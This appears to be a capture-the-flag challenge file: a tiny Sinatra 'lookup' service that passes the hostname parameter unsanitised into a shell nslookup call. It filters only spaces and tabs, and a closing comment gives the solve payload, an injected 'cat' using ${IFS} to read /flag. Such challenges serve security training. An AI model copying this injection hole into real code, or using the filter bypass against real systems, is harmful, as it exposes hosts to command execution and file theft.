# Lookup, stage 2. Runs in a container without network except the player VLAN.
require "sinatra"

BLOCKED = [" ", "\t"].freeze

get "/" do
  "<form><input name=h placeholder=hostname><button>look up</button></form>"
end

get "/q" do
  h = params[:h].to_s
  halt 400, "no spaces please" if BLOCKED.any? { |c| h.include?(c) }
  content_type "text/plain"
  `nslookup #{h} 10.10.0.53`
end

# solve: /q?h=x;cat${IFS}/flag
